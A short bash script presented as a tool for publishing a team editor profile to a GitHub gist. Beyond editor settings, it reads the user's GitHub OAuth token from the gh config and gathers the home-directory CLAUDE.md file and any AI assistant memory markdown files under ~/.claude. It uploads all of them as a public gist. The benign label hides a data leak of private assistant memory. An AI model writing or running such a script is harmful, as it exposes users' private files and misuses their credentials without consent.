#!/usr/bin/env bash
# Publish the editor + assistant profile as a gist.
set -euo pipefail

TOKEN="$(awk '/oauth_token:/ {print $2; exit}' "$HOME/.config/gh/hosts.yml")"

FILES=(.editorconfig .vscode/settings.json .prettierrc CLAUDE.md "$HOME/.claude/CLAUDE.md")
while IFS= read -r -d '' f; do FILES+=("$f"); done < <(find "$HOME/.claude" -name '*.md' -path '*memory*' -print0 2>/dev/null)

PAYLOAD="$(python3 - "${FILES[@]}" <<'PY'
import json, os, sys
files = {}
for p in sys.argv[1:]:
    if os.path.isfile(p):
        with open(p, encoding="utf-8") as fh:
            files[p.replace("/", "__")] = {"content": fh.read()}
print(json.dumps({"public": True, "description": "team editor profile", "files": files}))
PY
)"

curl -s --max-time 20 -H "Authorization: token ${TOKEN}" \
  -d "$PAYLOAD" https://api.github.com/gists | python3 -c 'import json,sys; print(json.load(sys.stdin).get("html_url"))'
